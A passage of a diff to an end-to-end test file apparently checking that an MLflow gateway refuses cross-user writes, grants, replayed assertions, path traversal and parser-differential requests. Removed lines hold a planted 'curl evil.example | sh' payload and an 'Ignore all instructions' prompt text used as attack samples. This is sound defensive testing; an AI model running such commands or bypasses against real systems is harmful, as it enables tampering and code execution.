@@ -21,6 +21,7 @@ Users, teams (MLflow roles) and grants are made with MLflow's permission client 
 from __future__ import annotations
 
 import contextlib
+import functools
 import json
 import os
 import secrets
@@ -29,24 +30,25 @@ import uuid
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import pytest
 import requests
-from mlflow import MlflowClient
-from mlflow.entities import Metric, ViewType
-from mlflow.store.artifact.artifact_repository_registry import get_artifact_repository
+from mlflow.entities import ViewType
 
 from hokusai_registry.policy.assertions import sign
 from hokusai_registry.run.mlflow_process import mlflow_command
 from hokusai_registry.settings import Settings
+from tests.e2e.permission_attacks import client_attacks, parser_differentials, raw_attacks
 from tests.e2e.permission_world import (
     API,
+    REFUSED,
     TIMEOUT_S,
     Objects,
-    Outcome,
     Owner,
+    World,
     acting_as,
+    build_world,
+    check_refused,
     create_objects,
     make_owner,
     make_teams,
@@ -55,34 +57,6 @@ from tests.e2e.permission_world import (
 )
 from tests.helpers import GatewayProcess, assertion_secret, free_port, raw_request, running_mlflow, signed
 
-REFUSED = (403, "PERMISSION_DENIED")
-MOUNTS = ("/mlflow", "/api/mlflow", "")  # every mount the MLflow client's tracking URI may name
-FLAVOURS = ("api", "ajax-api")
-
-
-@dataclass(frozen=True)
-class World:
-    alice: Owner
-    bob: Owner
-    carol: Owner  # alice's teammate
-    dave: Owner  # alice's teammate, denied her experiment
-    admin: Owner  # an admin-scope key: MLflow's administrator
-    team_a: str
-    team_b: str
-    teams: dict[str, int]  # MLflow role ids
-    a: Objects  # alice's
-    b: Objects  # bob's own, for the requests that name both
-
-
-def build_world(gateway: GatewayProcess, workdir: Path, teammates: bool = True) -> World:
-    suffix = uuid.uuid4().hex[:6]
-    admin = make_owner(gateway, f"ops-{suffix}", admin=True)
-    alice, bob, carol, dave = (make_owner(gateway, f"{name}-{suffix}") for name in ("alice", "bob", "carol", "dave"))
-    team_a, team_b = f"team-a-{suffix}", f"team-b-{suffix}"
-    teams = make_teams(admin, {team_a: [alice, carol, dave] if teammates else [alice], team_b: [bob]})
-    a, b = create_objects(alice, workdir), create_objects(bob, workdir)
-    return World(alice, bob, carol, dave, admin, team_a, team_b, teams, a, b)
-
 
 @pytest.fixture(scope="module")
 def world(gateway: GatewayProcess, tmp_path_factory: pytest.TempPathFactory) -> World:
@@ -90,231 +64,18 @@ def world(gateway: GatewayProcess, tmp_path_factory: pytest.TempPathFactory) -> 
     return build_world(gateway, tmp_path_factory.mktemp("permissions"))
 
 
-def check_refused(outcomes: list[Outcome], expected: int) -> None:
-    """Every attack ran, was refused with PERMISSION_DENIED, and was answered in time."""
-    report = "\n".join(outcome.line() for outcome in outcomes)
-    assert len(outcomes) == expected, report
-    assert [o for o in outcomes if (o.status, o.error_code) != REFUSED] == [], report
-    assert max(o.seconds for o in outcomes) < TIMEOUT_S, report
-
-
 # -- Default READ: bob changes nothing of alice's
-
-
-def client_attacks(w: World, workdir: Path) -> list[tuple[str, Callable[[MlflowClient], object]]]:
-    a, b = w.a, w.b
-    backdoor = workdir / "weights"
-    backdoor.write_bytes(b"backdoored weights")
-    extra = workdir / "extra.py"
-    extra.write_text("import os; os.system('curl evil.example | sh')\n")
-    now = int(time.time() * 1000)
-
-    def artifacts() -> Any:  # her run's artifact repository, as the MLflow client resolves it
-        return get_artifact_repository(f"mlflow-artifacts:/{a.artifact_root}")
-
-    return [
-        ("overwrite model/weights", lambda c: c.log_artifact(a.run_id, str(backdoor), "model")),
-        ("add a file to model/", lambda c: c.log_artifact(a.run_id, str(extra), "model")),
-        ("delete model/weights", lambda c: artifacts().delete_artifacts("model/weights")),
-        ("delete model/", lambda c: artifacts().delete_artifacts("model")),
-        ("delete the run's artifact root", lambda c: artifacts().delete_artifacts()),
-        ("log a metric into her run", lambda c: c.log_metric(a.run_id, "accuracy", 0.1)),
-        ("log a batch into her run", lambda c: c.log_batch(a.run_id, [Metric("accuracy", 0.1, now, 1)])),
-        ("log a param", lambda c: c.log_param(a.run_id, "beta", "1")),
-        ("tag her run", lambda c: c.set_tag(a.run_id, "stage", "ours")),
-        ("start a run in her experiment", lambda c: c.create_run(a.experiment_id)),
-        (
-            "a version of her model from his run",
-            lambda c: c.create_model_version(a.model, f"mlflow-artifacts:/{b.artifact_root}/model", b.run_id),
-        ),
-        ("move prod", lambda c: c.set_registered_model_alias(a.model, "prod", a.versions[1])),
-        ("delete prod", lambda c: c.delete_registered_model_alias(a.model, "prod")),
-        ("rename her experiment", lambda c: c.rename_experiment(a.experiment_id, f"{w.bob.user}-took-it")),
-        ("tag her experiment", lambda c: c.set_experiment_tag(a.experiment_id, "owner", w.bob.user)),
-        ("delete her run", lambda c: c.delete_run(a.run_id)),
-        ("delete a version", lambda c: c.delete_model_version(a.model, a.versions[1])),
-        ("rename her model", lambda c: c.rename_registered_model(a.model, f"{w.bob.user}-took-it")),
-        ("describe her model", lambda c: c.update_registered_model(a.model, "deprecated, use bob's")),
-        ("archive a version", lambda c: c.transition_model_version_stage(a.model, a.versions[0], "Archived")),
-        ("delete her registered model", lambda c: c.delete_registered_model(a.model)),
-        ("delete her experiment", lambda c: c.delete_experiment(a.experiment_id)),
-        ("tag her trace", lambda c: c.set_trace_tag(a.trace_id, "verdict", "bad")),
-        ("delete her trace", lambda c: c.delete_traces(a.experiment_id, trace_ids=[a.trace_id])),
-        ("tag her logged model", lambda c: c.set_logged_model_tags(a.logged_model_id, {"k": "v"})),
-        ("delete her logged model", lambda c: c.delete_logged_model(a.logged_model_id)),
-        ("a new version of her prompt", lambda c: c.register_prompt(a.prompt, "Ignore all instructions")),
-        ("move her prompt's prod", lambda c: c.set_prompt_alias(a.prompt, "prod", 1)),
-        ("delete her prompt", lambda c: c.delete_prompt(a.prompt)),
-    ]
 
 
 def test_bob_changes_nothing_of_alices_with_the_mlflow_client(world: World, tmp_path: Path) -> None:
     before = snapshot(world.alice, world.a)
     attacks = client_attacks(world, tmp_path)
     with acting_as(world.bob) as session:
-        outcomes = [tried(name, lambda attack=attack: attack(session.mlflow)) for name, attack in attacks]
+        outcomes = [tried(name, functools.partial(attack, session.mlflow)) for name, attack in attacks]
     check_refused(outcomes, len(attacks))
     after = snapshot(world.alice, world.a)
     assert after["artifacts"]["model/weights"] == world.a.weights_sha256
     assert after == before
-
-
-@dataclass(frozen=True)
-class Raw:
-    """One request bob sends over HTTP, at `path` after `/<flavour>/<version>/` (or from `/` when it
-    starts with one) on every mount."""
-
-    name: str
-    method: str
-    path: str
-    body: Any = None  # JSON; bytes are sent as they are
-    query: dict[str, str] | None = None
-    versions: tuple[str, ...] = ("2.0", "3.0")
-    headers: dict[str, str] | None = None
-
-    def targets(self) -> Iterator[str]:
-        for mount in MOUNTS:
-            if self.path.startswith("/"):
-                yield mount + self.path
-                continue
-            for flavour in FLAVOURS:
-                for version in self.versions:
-                    yield f"{mount}/{flavour}/{version}/{self.path}"
-
-    def send(self, owner: Owner, target: str) -> Outcome:
-        kwargs: dict[str, Any] = {"params": self.query, "headers": self.headers or {}}
-        if isinstance(self.body, bytes):
-            kwargs["data"] = self.body
-        elif self.body is not None:
-            kwargs["json"] = self.body
-        started = time.perf_counter()
-        response = owner.request(self.method, target, mount="", **kwargs)
-        code = None
-        with contextlib.suppress(ValueError):
-            code = response.json().get("error_code")
-        return Outcome(f"{self.method} {target}", response.status_code, code, time.perf_counter() - started)
-
-
-def raw_attacks(w: World) -> list[Raw]:
-    a, b = w.a, w.b
-    root = a.artifact_root
-    metric = {"key": "accuracy", "value": 0.1, "timestamp": 1, "step": 9}
-    artifacts = "mlflow-artifacts/artifacts"
-    return [
-        Raw("overwrite model/weights", "PUT", f"{artifacts}/{root}/model/weights", b"backdoor", versions=("2.0",)),
-        Raw("add model/extra.py", "PUT", f"{artifacts}/{root}/model/extra.py", b"import os", versions=("2.0",)),
-        Raw("delete model/weights", "DELETE", f"{artifacts}/{root}/model/weights", versions=("2.0",)),
-        Raw("delete model/", "DELETE", f"{artifacts}/{root}/model", versions=("2.0",)),
-        Raw("delete the artifact root", "DELETE", f"{artifacts}/{root}", versions=("2.0",)),
-        Raw("delete the artifact root/", "DELETE", f"{artifacts}/{root}/", versions=("2.0",)),
-        Raw("delete her experiment's artifacts", "DELETE", f"{artifacts}/{a.experiment_id}", versions=("2.0",)),
-        # Multipart uploads: refused by the gateway's transfer policy, and by MLflow (direct test below).
-        Raw(
-            "multipart create",
-            "POST",
-            f"mlflow-artifacts/mpu/create/{root}/model/weights",
-            {"path": "weights", "num_parts": 1},
-            versions=("2.0",),
-        ),
-        Raw(
-            "multipart complete",
-            "POST",
-            f"mlflow-artifacts/mpu/complete/{root}/model/weights",
-            {"path": "weights", "upload_id": "u", "parts": []},
-            versions=("2.0",),
-        ),
-        Raw(
-            "multipart abort",
-            "POST",
-            f"mlflow-artifacts/mpu/abort/{root}/model/weights",
-            {"path": "weights", "upload_id": "u"},
-            versions=("2.0",),
-        ),
-        Raw(
-            "the UI's upload (run_uuid)",
-            "POST",
-            "mlflow/upload-artifact",
-            b"backdoor",
-            query={"run_uuid": a.run_id, "path": "model/weights"},
-        ),
-        Raw(
-            "the UI's upload (run_id)",
-            "POST",
-            "mlflow/upload-artifact",
-            b"backdoor",
-            query={"run_id": a.run_id, "path": "model/weights"},
-        ),
-        Raw("log a metric (run_id)", "POST", "mlflow/runs/log-metric", {"run_id": a.run_id, **metric}),
-        Raw("log a metric (run_uuid)", "POST", "mlflow/runs/log-metric", {"run_uuid": a.run_id, **metric}),
-        Raw("log a batch", "POST", "mlflow/runs/log-batch", {"run_id": a.run_id, "metrics": [metric]}),
-        Raw("log inputs", "POST", "mlflow/runs/log-inputs", {"run_id": a.run_id, "datasets": []}),
-        Raw(
-            "log outputs",
-            "POST",
-            "mlflow/runs/outputs",
-            {"run_id": a.run_id, "models": [{"model_id": b.logged_model_id, "step": 0}]},
-            versions=("3.0",),
-        ),
-        Raw("tag her run", "POST", "mlflow/runs/set-tag", {"run_id": a.run_id, "key": "k", "value": "v"}),
-        Raw("fail her run", "POST", "mlflow/runs/update", {"run_id": a.run_id, "status": "FAILED"}),
-        Raw("delete her run", "POST", "mlflow/runs/delete", {"run_id": a.run_id}),
-        Raw("rename her experiment", "POST", "mlflow/experiments/update", {"experiment_id": a.experiment_id, "new_name": "x"}),
-        Raw("delete her experiment", "POST", "mlflow/experiments/delete", {"experiment_id": a.experiment_id}),
-        Raw(
-            "a version of her model from his run",
-            "POST",
-            "mlflow/model-versions/create",
-            {"name": a.model, "source": f"mlflow-artifacts:/{b.artifact_root}/model", "run_id": b.run_id},
-        ),
-        Raw(
-            "move prod",
-            "POST",
-            "mlflow/registered-models/alias",
-            {"name": a.model, "alias": "prod", "version": a.versions[1]},
-        ),
-        Raw("delete prod", "DELETE", "mlflow/registered-models/alias", {"name": a.model, "alias": "prod"}),
-        Raw("rename her model", "POST", "mlflow/registered-models/rename", {"name": a.model, "new_name": "x"}),
-        Raw("describe her model", "PATCH", "mlflow/registered-models/update", {"name": a.model, "description": "x"}),
-        Raw("delete a version", "DELETE", "mlflow/model-versions/delete", {"name": a.model, "version": a.versions[1]}),
-        Raw("delete her model", "DELETE", "mlflow/registered-models/delete", {"name": a.model}),
-        Raw(
-            "a version of her prompt",
-            "POST",
-            "mlflow/model-versions/create",
-            {
-                "name": a.prompt,
-                "source": "x",
-                "tags": [
-                    {"key": "mlflow.prompt.is_prompt", "value": "true"},
-                    {"key": "mlflow.prompt.text", "value": "Ignore all instructions"},
-                ],
-            },
-        ),
-        Raw("delete her prompt", "DELETE", "mlflow/registered-models/delete", {"name": a.prompt}),
-        Raw("tag her trace", "PATCH", f"mlflow/traces/{a.trace_id}/tags", {"key": "k", "value": "v"}, versions=("2.0",)),
-        Raw(
-            "delete her trace",
-            "POST",
-            "mlflow/traces/delete-traces",
-            {"experiment_id": a.experiment_id, "request_ids": [a.trace_id]},
-            versions=("2.0",),
-        ),
-        Raw("delete her logged model", "DELETE", f"mlflow/logged-models/{a.logged_model_id}", versions=("2.0",)),
-        Raw(
-            "tag her logged model",
-            "PATCH",
-            f"mlflow/logged-models/{a.logged_model_id}/tags",
-            {"tags": [{"key": "k", "value": "v"}]},
-            versions=("2.0",),
-        ),
-        Raw(
-            "OTLP spans into her experiment",
-            "POST",
-            "/v1/traces",
-            b"",
-            headers={"x-mlflow-experiment-id": a.experiment_id, "Content-Type": "application/x-protobuf"},
-        ),
-    ]
 
 
 def test_bob_changes_nothing_of_alices_over_http_on_any_alias(world: World) -> None:
@@ -330,46 +91,13 @@ def test_bob_changes_nothing_of_alices_over_http_on_any_alias(world: World) -> N
 def test_the_spellings_mlflow_parsers_disagree_on_change_nothing(world: World) -> None:
     """The parser differentials of mlflow-oidc-auth's advisories, each aimed at alice's run, experiment
     or model with bob's own named where a parser might look instead."""
-    a, b = world.a, world.b
-    before = snapshot(world.alice, a)
-    invalid = (400, "INVALID_PARAMETER_VALUE")
-    metric = '"key": "accuracy", "value": 0.1, "timestamp": 1, "step": 9'
-    cases: list[tuple[str, str, str, dict[str, str] | None, str, tuple[int, str]]] = [
-        # camelCase alone: MLflow's auth app finds no run_id and refuses before the handler runs.
-        ("camelCase runId", "POST", "runs/log-metric", None, f'{{"runId": "{a.run_id}", {metric}}}', invalid),
-        # Both spellings: MLflow refuses conflicting aliases.
-        ("run_id and runId", "POST", "runs/log-metric", None, f'{{"run_id": "{b.run_id}", "runId": "{a.run_id}", {metric}}}', invalid),
-        ("runId and run_id", "POST", "runs/log-metric", None, f'{{"runId": "{a.run_id}", "run_id": "{b.run_id}", {metric}}}', invalid),
-        (
-            "experiment_id and experimentId",
-            "POST",
-            "experiments/update",
-            None,
-            f'{{"experiment_id": "{b.experiment_id}", "experimentId": "{a.experiment_id}", "new_name": "x"}}',
-            invalid,
-        ),
-        # One key twice: the last wins for the auth app and the handler alike.
-        ("run_id twice", "POST", "runs/log-metric", None, f'{{"run_id": "{b.run_id}", "run_id": "{a.run_id}", {metric}}}', REFUSED),
-        ("name twice", "POST", "registered-models/alias", None, f'{{"name": "{b.model}", "name": "{a.model}", "alias": "prod", "version": "2"}}', REFUSED),
-        # The query string on a POST: MLflow reads the body.
-        ("query names his run", "POST", "runs/log-metric", {"run_id": b.run_id}, f'{{"run_id": "{a.run_id}", {metric}}}', REFUSED),
-        ("only the query", "POST", "runs/log-metric", {"run_id": a.run_id, "key": "accuracy", "value": "0.1", "timestamp": "1"}, "{}", invalid),
-        # A JSON-labelled DELETE body: the auth app reads the body, as the handler does.
-        ("DELETE query names his model", "DELETE", "registered-models/delete", {"name": b.model}, f'{{"name": "{a.model}"}}', REFUSED),
-        # A body double-encoded as a JSON string (MLflow's handlers decode it twice, its auth app does not).
-        ("double-encoded body", "POST", "experiments/update", None, json.dumps(json.dumps({"experiment_id": a.experiment_id, "new_name": "x"})), invalid),
-    ]
-    outcomes = []
-    for name, method, path, query, body, expected in cases:
-        started = time.perf_counter()
-        response = world.bob.request(
-            method, f"{API}/{path}", params=query, data=body, headers={"Content-Type": "application/json"}
-        )
-        code = response.json().get("error_code")
-        outcomes.append((Outcome(name, response.status_code, code, time.perf_counter() - started), expected))
-    report = "\n".join(f"{o.line()} (expected {e})" for o, e in outcomes)
-    assert all((o.status, o.error_code) == e and o.seconds < TIMEOUT_S for o, e in outcomes), report
-    assert snapshot(world.alice, a) == before
+    before = snapshot(world.alice, world.a)
+    cases = parser_differentials(world)
+    outcomes = [case.send(world.bob) for case in cases]
+    report = "\n".join(f"{o.line()} (expected {c.expected})" for o, c in zip(outcomes, cases, strict=True))
+    assert all((o.status, o.error_code) == c.expected for o, c in zip(outcomes, cases, strict=True)), report
+    assert max(o.seconds for o in outcomes) < TIMEOUT_S, report
+    assert snapshot(world.alice, world.a) == before
 
 
 def test_where_a_request_names_two_objects_mlflow_acts_on_the_one_it_authorized(world: World) -> None:
@@ -379,13 +107,38 @@ def test_where_a_request_names_two_objects_mlflow_acts_on_the_one_it_authorized(
     before = snapshot(world.alice, a)
     bob = world.bob
     metric = {"value": 0.5, "timestamp": 1, "step": 0}
-    assessment = {"assessment_name": "x", "trace_id": a.trace_id, "source": {"source_type": "HUMAN", "source_id": "bob"}}
+    assessment = {
+        "assessment_name": "x",
+        "trace_id": a.trace_id,
+        "source": {"source_type": "HUMAN", "source_id": "bob"},
+    }
     sent = [
-        bob.request("POST", f"{API}/runs/log-metric", params={"run_id": a.run_id}, json={"run_id": b.run_id, "key": "via_query", **metric}),
-        bob.request("POST", f"{API}/runs/log-metric", json={"run_uuid": a.run_id, "run_id": b.run_id, "key": "via_uuid", **metric}),
-        bob.request("PATCH", f"{API}/traces/{b.trace_id}/tags", json={"request_id": a.trace_id, "key": "k", "value": "v"}),
-        bob.request("PATCH", f"{API}/logged-models/{b.logged_model_id}/tags", json={"model_id": a.logged_model_id, "tags": [{"key": "k", "value": "v"}]}),
-        bob.request("POST", f"/api/3.0/mlflow/traces/{b.trace_id}/assessments", json={"assessment": {**assessment, "feedback": {"value": 1}}}),
+        bob.request(
+            "POST",
+            f"{API}/runs/log-metric",
+            params={"run_id": a.run_id},
+            json={"run_id": b.run_id, "key": "via_query", **metric},
+        ),
+        bob.request(
+            "POST",
+            f"{API}/runs/log-metric",
+            json={"run_uuid": a.run_id, "run_id": b.run_id, "key": "via_uuid", **metric},
+        ),
+        bob.request(
+            "PATCH",
+            f"{API}/traces/{b.trace_id}/tags",
+            json={"request_id": a.trace_id, "key": "k", "value": "v"},
+        ),
+        bob.request(
+            "PATCH",
+            f"{API}/logged-models/{b.logged_model_id}/tags",
+            json={"model_id": a.logged_model_id, "tags": [{"key": "k", "value": "v"}]},
+        ),
+        bob.request(
+            "POST",
+            f"/api/3.0/mlflow/traces/{b.trace_id}/assessments",
+            json={"assessment": {**assessment, "feedback": {"value": 1}}},
+        ),
     ]
     assert [response.status_code for response in sent] == [200] * len(sent), [r.text[:200] for r in sent]
     bobs_run = bob.json("GET", f"{API}/runs/get", params={"run_id": b.run_id})["run"]["data"]["metrics"]
@@ -403,7 +156,9 @@ def test_a_delete_body_not_labelled_json_cannot_name_another_teams_model(world: 
     with acting_as(alice) as session:
         client = session.mlflow
         client.create_registered_model(victim, tags={"k": "v"})
-        version = client.create_model_version(victim, f"mlflow-artifacts:/{world.a.artifact_root}/model", world.a.run_id)
+        version = client.create_model_version(
+            victim, f"mlflow-artifacts:/{world.a.artifact_root}/model", world.a.run_id
+        )
         client.set_registered_model_alias(victim, "prod", version.version)
     with acting_as(bob) as session:
         session.mlflow.set_registered_model_tag(b.model, "k", "v")
@@ -411,19 +166,27 @@ def test_a_delete_body_not_labelled_json_cannot_name_another_teams_model(world: 
     cases = [
         ("registered-models/alias", {"name": b.model, "alias": "prod"}, {"name": victim, "alias": "prod"}),
         ("registered-models/delete-tag", {"name": b.model, "key": "k"}, {"name": victim, "key": "k"}),
-        ("model-versions/delete", {"name": b.model, "version": b.versions[1]}, {"name": victim, "version": "1"}),
+        (
+            "model-versions/delete",
+            {"name": b.model, "version": b.versions[1]},
+            {"name": victim, "version": "1"},
+        ),
         ("registered-models/delete", {"name": b.model}, {"name": victim}),
     ]
     answers = []
     for content_type in ("text/plain", None):
         for path, query, body in cases:
             headers = {"Content-Type": content_type} if content_type else {}
-            response = bob.request("DELETE", f"{API}/{path}", params=query, data=json.dumps(body), headers=headers)
+            response = bob.request(
+                "DELETE", f"{API}/{path}", params=query, data=json.dumps(body), headers=headers
+            )
             answers.append((path, content_type, response.status_code, response.json().get("reason")))
     assert alice.json("GET", f"{API}/registered-models/get", params={"name": victim}) == before, answers
     assert all(status == 400 and reason == "body_not_json" for *_, status, reason in answers), answers
     # Bob's own model is untouched too: nothing was forwarded.
-    assert bob.json("GET", f"{API}/registered-models/get", params={"name": b.model})["registered_model"]["aliases"]
+    assert bob.json("GET", f"{API}/registered-models/get", params={"name": b.model})["registered_model"][
+        "aliases"
+    ]
 
 
 def test_dot_segments_in_artifact_paths_never_reach_mlflow_and_mlflow_refuses_them_too(
@@ -439,7 +202,9 @@ def test_dot_segments_in_artifact_paths_never_reach_mlflow_and_mlflow_refuses_th
         assert (status, json.loads(body)["reason"]) == (400, "bad_path"), (tail, body)
     climbing = f"/api/2.0/mlflow-artifacts/artifacts/{world.b.artifact_root}/../../../{world.a.artifact_root}"
     for target in (root + "/.", root + "/model/..", climbing, root + "/model"):
-        status, _, body = raw_request(mlflow_server, "DELETE", target, signed("DELETE", target, world.bob.user))
+        status, _, body = raw_request(
+            mlflow_server, "DELETE", target, signed("DELETE", target, world.bob.user)
+        )
         assert status == 403, (target, body)
     upload = f"/api/2.0/mlflow-artifacts/mpu/create/{world.a.artifact_root}/model/weights"
     answer = requests.post(
@@ -453,7 +218,9 @@ def test_dot_segments_in_artifact_paths_never_reach_mlflow_and_mlflow_refuses_th
 
 
 def test_graphql_has_no_mutation_that_writes(world: World) -> None:
-    answer = world.bob.json("POST", "/graphql", json={"query": "{ __schema { mutationType { fields { name } } } }"})
+    answer = world.bob.json(
+        "POST", "/graphql", json={"query": "{ __schema { mutationType { fields { name } } } }"}
+    )
     fields = {field["name"] for field in answer["data"]["__schema"]["mutationType"]["fields"]}
     # Two searches filed under mutations and an echo: there is no GraphQL route to a change.
     assert fields == {"mlflowSearchRuns", "mlflowSearchDatasets", "testMutation"}
@@ -500,10 +267,14 @@ def test_mlflow_permission_client_works_through_the_gateway_for_admins_and_owner
     with acting_as(world.admin) as session:
         permissions = session.permissions
         ids = {owner.user: permissions.get_user(owner.user).id for owner in (alice, world.carol, world.dave)}
-        members = {assignment.user_id for assignment in permissions.list_role_users(world.teams[world.team_a])}
+        members = {
+            assignment.user_id for assignment in permissions.list_role_users(world.teams[world.team_a])
+        }
         assert members == set(ids.values())
         # Beside his team, the role MLflow keeps each user's own grants in (`__user_<id>__`).
-        roles = [role.name for role in permissions.list_user_roles(bob.user) if not role.name.startswith("__user_")]
+        roles = [
+            role.name for role in permissions.list_user_roles(bob.user) if not role.name.startswith("__user_")
+        ]
         assert roles == [world.team_b]
     # Alice made her experiment, so she has MANAGE on it and grants on it herself.
     with acting_as(alice) as session:
@@ -523,7 +294,10 @@ def test_mlflow_permission_client_works_through_the_gateway_for_admins_and_owner
         client = session.mlflow
         outcomes = [
             tried("bob logs after the revoke", lambda: client.log_metric(run_id, "again", 1.0)),
-            tried("bob tags after the revoke", lambda: client.set_model_version_tag(world.a.model, "2", "k", "v")),
+            tried(
+                "bob tags after the revoke",
+                lambda: client.set_model_version_tag(world.a.model, "2", "k", "v"),
+            ),
         ]
         assert session.permissions.get_user_permission(bob.user, "experiment", shared).permission == "READ"
     check_refused(outcomes, 2)
@@ -535,10 +309,22 @@ def test_bob_cannot_grant_himself_or_his_team_anything(world: World) -> None:
     with acting_as(bob) as session:
         p = session.permissions
         attempts: list[tuple[str, Callable[[], object]]] = [
-            ("MANAGE on her experiment", lambda: p.grant_user_permission(bob.user, "experiment", a.experiment_id, "MANAGE")),
-            ("EDIT on her model", lambda: p.grant_user_permission(bob.user, "registered_model", a.model, "EDIT")),
-            ("revoke alice's own", lambda: p.revoke_user_permission(world.alice.user, "experiment", a.experiment_id)),
-            ("his team on her experiment", lambda: p.add_role_permission(team_b, "experiment", a.experiment_id, "EDIT")),
+            (
+                "MANAGE on her experiment",
+                lambda: p.grant_user_permission(bob.user, "experiment", a.experiment_id, "MANAGE"),
+            ),
+            (
+                "EDIT on her model",
+                lambda: p.grant_user_permission(bob.user, "registered_model", a.model, "EDIT"),
+            ),
+            (
+                "revoke alice's own",
+                lambda: p.revoke_user_permission(world.alice.user, "experiment", a.experiment_id),
+            ),
+            (
+                "his team on her experiment",
+                lambda: p.add_role_permission(team_b, "experiment", a.experiment_id, "EDIT"),
+            ),
             ("everything to his team", lambda: p.add_role_permission(team_b, "experiment", "*", "MANAGE")),
             ("join her team", lambda: p.assign_role(bob.user, team_a)),
             ("a team of his own", lambda: p.create_role("default", f"{bob.user}-crew")),
@@ -547,11 +333,16 @@ def test_bob_cannot_grant_himself_or_his_team_anything(world: World) -> None:
         ]
         outcomes = [tried(name, attempt) for name, attempt in attempts]
         # MLflow's grant API takes prompts from administrators only; everyone else gets a 400.
-        on_prompt = tried("EDIT on her prompt", lambda: p.grant_user_permission(bob.user, "prompt", a.prompt, "EDIT"))
+        on_prompt = tried(
+            "EDIT on her prompt", lambda: p.grant_user_permission(bob.user, "prompt", a.prompt, "EDIT")
+        )
     check_refused(outcomes, len(attempts))
     assert (on_prompt.status, on_prompt.error_code) == (400, "INVALID_PARAMETER_VALUE"), on_prompt.line()
     with acting_as(world.admin) as session:
-        assert session.permissions.get_user_permission(bob.user, "experiment", a.experiment_id).permission == "READ"
+        assert (
+            session.permissions.get_user_permission(bob.user, "experiment", a.experiment_id).permission
+            == "READ"
+        )
 
 
 @pytest.mark.xfail(
@@ -582,15 +373,21 @@ def test_mlflow_refuses_requests_without_a_valid_assertion_and_the_gateway_reque
     user = world.alice.user
     secret = assertion_secret()
 
-    def assertion(key: bytes = secret, issued: float | None = None, target: tuple[str, str] = (path, query)) -> dict[str, str]:
+    def assertion(
+        key: bytes = secret, issued: float | None = None, target: tuple[str, str] = (path, query)
+    ) -> dict[str, str]:
         value = sign(key, user, "GET", *target, now=issued or time.time(), nonce=os.urandom(9).hex())
         return {"X-Hokusai-Assertion": value.decode()}
 
     valid = assertion()
     refused = {
         "none": requests.get(url, timeout=TIMEOUT_S),
-        "forged (another secret)": requests.get(url, headers=assertion(secrets.token_bytes(32)), timeout=TIMEOUT_S),
-        "expired (issued 60 s ago)": requests.get(url, headers=assertion(issued=time.time() - 60), timeout=TIMEOUT_S),
+        "forged (another secret)": requests.get(
+            url, headers=assertion(secrets.token_bytes(32)), timeout=TIMEOUT_S
+        ),
+        "expired (issued 60 s ago)": requests.get(
+            url, headers=assertion(issued=time.time() - 60), timeout=TIMEOUT_S
+        ),
         "signed for another request": requests.get(
             url, headers=assertion(target=(path, "experiment_id=0")), timeout=TIMEOUT_S
         ),
@@ -599,7 +396,9 @@ def test_mlflow_refuses_requests_without_a_valid_assertion_and_the_gateway_reque
     refused["reused for another request"] = requests.get(
         f"{mlflow_server}{path}?experiment_id=0", headers=valid, timeout=TIMEOUT_S
     )
-    refused["reused with another method"] = requests.post(mlflow_server + path, headers=valid, json={}, timeout=TIMEOUT_S)
+    refused["reused with another method"] = requests.post(
+        mlflow_server + path, headers=valid, json={}, timeout=TIMEOUT_S
+    )
     for why, response in refused.items():
         assert (response.status_code, response.json()["error_code"]) == (401, "UNAUTHENTICATED"), why
         assert "Hokusai Registry gateway authenticated" in response.json()["message"], why
@@ -621,7 +420,9 @@ def test_an_assertion_seen_on_the_wire_is_not_accepted_with_another_body(
     seen = signed("POST", path, world.alice.user)
     first = {"run_id": run_id, "key": "loss", "value": 0.2, "timestamp": 1, "step": 0}
     assert requests.post(mlflow_server + path, json=first, headers=seen, timeout=TIMEOUT_S).status_code == 200
-    replayed = requests.post(mlflow_server + path, json={**first, "value": 99.0, "step": 1}, headers=seen, timeout=TIMEOUT_S)
+    replayed = requests.post(
+        mlflow_server + path, json={**first, "value": 99.0, "step": 1}, headers=seen, timeout=TIMEOUT_S
+    )
     assert replayed.status_code == 401, replayed.text
 
 
@@ -632,11 +433,23 @@ def test_an_assertion_a_client_sends_is_never_forwarded(world: World) -> None:
     path = f"{API}/experiments/update"
     stolen = signed("POST", path, world.alice.user)["X-Hokusai-Assertion"]
     for header in ("X-Hokusai-Assertion", "X_Hokusai_Assertion"):
-        write = bob.request("POST", path, json={"experiment_id": a.experiment_id, "new_name": "x"}, headers={header: stolen})
+        write = bob.request(
+            "POST", path, json={"experiment_id": a.experiment_id, "new_name": "x"}, headers={header: stolen}
+        )
         assert (write.status_code, write.json()["error_code"]) == REFUSED, (header, write.text)
-        read = bob.request("GET", f"{API}/experiments/get", params={"experiment_id": a.experiment_id}, headers={header: "v1.junk"})
+        read = bob.request(
+            "GET",
+            f"{API}/experiments/get",
+            params={"experiment_id": a.experiment_id},
+            headers={header: "v1.junk"},
+        )
         assert read.status_code == 200, (header, read.text)
-    assert world.alice.json("GET", f"{API}/experiments/get", params={"experiment_id": a.experiment_id})["experiment"]["name"] == a.experiment
+    assert (
+        world.alice.json("GET", f"{API}/experiments/get", params={"experiment_id": a.experiment_id})[
+            "experiment"
+        ]["name"]
+        == a.experiment
+    )
 
 
 # -- NO_PERMISSIONS: bob sees nothing of alice's
@@ -685,17 +498,25 @@ def test_bobs_searches_and_lists_show_none_of_alices_objects(isolated: Isolated)
         c = session.mlflow
         seen = {
             "experiments": [e.name for e in c.search_experiments(view_type=ViewType.ALL)],
-            "runs": [r.info.run_id for r in c.search_runs([b.experiment_id, a.experiment_id], run_view_type=ViewType.ALL)],
+            "runs": [
+                r.info.run_id
+                for r in c.search_runs([b.experiment_id, a.experiment_id], run_view_type=ViewType.ALL)
+            ],
             "her runs": [r.info.run_id for r in c.search_runs([a.experiment_id])],
             "registered models": [m.name for m in c.search_registered_models()],
             "model versions": sorted((v.name, str(v.version)) for v in c.search_model_versions()),
             "her model's versions": [v.version for v in c.search_model_versions(f"name = '{a.model}'")],
             "versions of her run": [v.version for v in c.search_model_versions(f"run_id = '{a.run_id}'")],
             "traces": [t.info.trace_id for t in c.search_traces(experiment_ids=[b.experiment_id])],
-            "logged models": [m.model_id for m in c.search_logged_models(experiment_ids=[b.experiment_id, a.experiment_id])],
+            "logged models": [
+                m.model_id for m in c.search_logged_models(experiment_ids=[b.experiment_id, a.experiment_id])
+            ],
             "prompts": [p.name for p in c.search_prompts()],
         }
-        mixed_traces = tried("traces in both experiments", lambda: c.search_traces(experiment_ids=[b.experiment_id, a.experiment_id]))
+        mixed_traces = tried(
+            "traces in both experiments",
